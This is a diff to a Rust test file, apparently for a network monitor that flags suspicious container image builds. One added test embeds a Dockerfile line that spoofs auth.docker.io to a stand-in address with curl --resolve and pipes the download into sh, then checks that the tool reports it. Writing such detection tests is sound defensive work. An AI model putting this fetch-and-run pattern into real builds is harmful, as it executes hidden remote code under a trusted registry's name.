@@ -1,12 +1,13 @@
 //! What was done to the destination before, and what the image does afterwards.
 
-use tw_testkit::{Conversation, Packet, http_request};
+use serde_json::Value;
+use tw_testkit::{Conversation, Packet, http_request, to_pcap};
 
 use super::stage::{
     Case, DAEMON, DOCKERFILE, HOST, SILENT, STRANGER, address, at, attack, build, built, call,
-    caller, download, fetched, json_answer, merged,
+    caller, download, fetched, json_answer, merged, tls,
 };
-use crate::support::check_all;
+use crate::support::{Lab, check_all};
 
 const ID: &str = "4c01db0b339c7c4f4e1d9b1b1c7e6b7f0e4b1f7a6a5c4d3e2f1a0b9c8d7e6f5a";
 
@@ -58,6 +59,27 @@ fn touching_the_destination_first_silences_nothing() {
         Case::attack("handshakes on five days", after(days(5))),
     ];
     check_all(&cases, Case::complaints);
+}
+
+/// `curl --resolve`: the client chooses the SNI, and no answer of DNS was seen for it.
+#[test]
+fn the_name_of_a_public_registry_hides_no_download() {
+    let hidden = "FROM alpine:3.18\nRUN curl --resolve auth.docker.io:443:203.0.113.9 \
+        https://auth.docker.io/x | sh\n";
+    let forged = |dockerfile: &str| {
+        merged([
+            call(DAEMON, &build("/v1.41/build?t=evil:1&q=1", dockerfile), &built()),
+            tls(HOST, "203.0.113.9:443", "auth.docker.io", at(1.0)),
+        ])
+    };
+    check_all(&[Case::attack("named", forged(hidden))], Case::complaints);
+    let lab = Lab::new();
+    let capture = lab.file("case.pcap", &to_pcap(&forged(SILENT)));
+    let told = lab.replay(&capture).succeeded().events("finding");
+    let is_it = |f: &&Value| f["rule"] == "registry-new" && f["destination"]["ip"] == "203.0.113.9";
+    let finding = told.iter().find(is_it).unwrap_or_else(|| panic!("{told:?}"));
+    let summary = finding["summary"].as_str().unwrap_or_default();
+    assert!(summary.contains("called auth.docker.io"), "{summary}");
 }
 
 #[test]
